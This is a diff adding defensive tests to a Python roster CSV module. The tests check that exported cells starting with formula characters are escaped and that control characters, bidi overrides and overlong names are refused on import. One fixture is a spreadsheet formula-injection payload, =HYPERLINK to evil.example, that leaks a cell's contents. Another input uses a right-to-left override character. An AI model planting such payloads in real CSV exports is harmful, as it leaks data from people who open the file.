@@ -2,13 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from station.errors import RosterError
 from station.model import Badge, Level, Member, Qualification, Role
-from station.roster import normalise_uid, parse_qualifications, parse_roster_csv, roster_to_csv
+from station.roster import (
+    BIDI,
+    normalise_uid,
+    parse_qualifications,
+    parse_roster_csv,
+    roster_to_csv,
+    unsafe_text,
+)
 from tests.conftest import sample_roster_text
 
 HEADER = "member_id,name,role,badge_uid,qualifications\n"
@@ -81,9 +91,14 @@ def test_uid_normalisation(raw: bytes) -> None:
     assert normalise_uid(":".join(f"{b:02x}" for b in raw)) == raw.hex().upper()
 
 
-names = st.text(
-    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20
-).filter(lambda s: s.strip() == s and s)
+names = (
+    st.text(
+        alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters=BIDI),
+        min_size=1,
+        max_size=20,
+    )
+    | st.tuples(st.sampled_from(["=", "+", "-", "@", "'", "''"]), st.text(max_size=5)).map("".join)
+).filter(lambda s: s.strip() == s and s and unsafe_text(s, "name") is None)
 
 
 @given(
@@ -110,3 +125,32 @@ def test_export_import_round_trip(rows: list) -> None:
     assert parsed.members == members
     assert sorted(b.uid for b in parsed.badges) == sorted(b.uid for b in badges)
     assert sorted(parsed.qualifications, key=str) == sorted(quals, key=str)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Clique ici")'
+
+
+def test_export_neutralises_formulas_and_import_takes_it_back() -> None:
+    members = [Member("lea", HYPERLINK, Role.TRAINEE), Member("noah", "-2+3", Role.TRAINEE)]
+    text = roster_to_csv(members, [], [])
+    for row in list(csv.reader(io.StringIO(text)))[1:]:
+        assert row[1][0] == "'", row  # a spreadsheet shows it, never runs it
+    assert [m.name for m in parse_roster_csv(text).members] == [HYPERLINK, "-2+3"]
+
+
+@pytest.mark.parametrize(
+    ("cell", "message"),
+    [
+        ("L\u00e9a\u0007", "line 2: name holds a control character (U+0007); remove it"),
+        ("L\u00e9a\u202eartin", "line 2: name holds an invisible character that turns text around"),
+        ("x" * 121, "line 2: name is longer than 120 characters"),
+        ('"L\u00e9a\nMartin"', "line 2: name holds a control character (U+000A)"),
+    ],
+)  # fmt: skip
+def test_import_refuses_control_and_bidi_characters_and_long_fields(
+    cell: str, message: str
+) -> None:
+    text = f"member_id,name,role,badge_uid,qualifications\nlea,{cell},trainee,,\n"
+    with pytest.raises(RosterError) as e:
+        parse_roster_csv(text)
+    assert message in str(e.value) and "nothing was imported" in str(e.value)
